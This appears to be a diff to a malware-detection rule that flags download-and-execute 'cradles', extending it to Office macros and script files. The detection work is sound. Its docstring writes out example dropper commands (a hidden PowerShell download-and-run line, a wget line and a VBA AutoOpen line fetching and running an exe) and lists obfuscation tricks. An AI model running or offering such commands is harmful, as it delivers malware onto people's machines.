@@ -14,6 +14,13 @@ What it catches
     And its in-page form, HTML smuggling: a page that decodes a program from its own data into
     a blob and saves it under a program's name (`a.download = 'scan.pdf.exe'`), so that no
     proxy ever sees the file fetched (`smuggling.py`).
+    And its Office form: a document macro (VBA) or a VBScript/JScript file that downloads a
+    program (`URLDownloadToFile`, `XMLHTTP` + `ADODB.Stream.SaveToFile`, a PowerShell or
+    `certutil -urlcache` command line) and starts one (`Shell`, `WScript.Shell.Run`,
+    `ShellExecute`, WMI `Win32_Process.Create`) from an entry point the document runs on
+    opening (`AutoOpen`, `Document_Open`, `Workbook_Open`) or concealed: PowerShell's hidden
+    window, a bare address, or `powershell` and the address spelled backwards (`StrReverse`),
+    in `Chr()` codes, with junk `Replace`d out or split in pieces (`macros.py`).
 
 Why it is a redline (RL-MALWARE)
     This is the dropper's and loader's delivery step: it puts someone else's code to work on
@@ -23,6 +30,7 @@ Why it is a redline (RL-MALWARE)
 Example
     `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"`
     `wget -q http://203.0.113.5/m -O /tmp/.m && chmod +x /tmp/.m && nohup /tmp/.m &`
+    `Sub AutoOpen(): URLDownloadToFile 0, "http://203.0.113.5/i.exe", f, 0, 0: Shell f, vbHide`
 
 Allowed instead
     Ordinary developer installs stay allowed, including the documented `curl | sh` ones: an
@@ -35,6 +43,10 @@ Allowed instead
     archive and checking its hash are allowed too.
     A page exporting what it built (a CSV, an image, a generated
     script) or linking an installer by its address is an ordinary download.
+    Macros that fill a template, export a sheet to PDF and open it, follow a hyperlink the user
+    clicked or refresh data from the company's own API on opening fetch no program to run; a
+    deployment script that fetches an installer by name over HTTPS and runs it silently
+    (`msiexec /qn`, window hidden) hides nothing of what it does.
 """
 
 from __future__ import annotations
@@ -59,6 +71,14 @@ def download_cradle(found: Capabilities) -> Detection | None:
         return supported(found, 0.85, (Cap.REMOTE_SCRIPT_EXEC,), Cap.REMOTE_SCRIPT_EXEC.value)
     if Cap.SMUGGLED_PROGRAM in found:
         return supported(found, 0.85, (Cap.SMUGGLED_PROGRAM,), Cap.SMUGGLED_PROGRAM.value)
+    if Cap.MACRO_DROPPER in found:
+        # An Office macro or script-host file (`macros.py`): fetch + run, on opening or hidden.
+        return supported(
+            found,
+            0.85,
+            (Cap.MACRO_DROPPER,),
+            "a document macro or script file that downloads and runs a program",
+        )
     if Cap.RUN_DOWNLOADED not in found:
         return None
     # In a response, a hidden window or background run must belong to the command that runs
